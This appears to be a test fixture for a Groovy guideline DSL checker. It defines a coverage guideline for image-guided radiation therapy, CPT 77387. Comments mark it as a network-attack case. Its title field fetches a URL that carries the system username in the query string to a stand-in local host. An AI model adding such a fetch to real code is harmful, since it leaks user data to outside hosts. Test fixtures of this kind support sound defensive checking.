// attack: network
// expect: R003 5:11
// URL.text fetches a remote resource and leaks a value in the query
guideline('99-00000-01') {
    title new URL('http://127.0.0.1:9/?leak=' + System.getProperty('user.name')).text
    originalEffectiveDate '2020-01-01'
    positionStatement {
        paragraph 'Image-guided radiation therapy (IGRT) meets the definition of medical necessity for the following indications:'
        anyOf {
            indication 'Implanted fiducial markers'
            indication 'Target volume that is subject to daily variation that is due to internal motion', id: 'internal-motion'
        }
    }
    billingCoding {
        codes('CPT') {
            code '77387'
        }
    }
    updateHistory {
        revision '2020-01-01', 'New Medical Coverage Guideline.'
    }
}
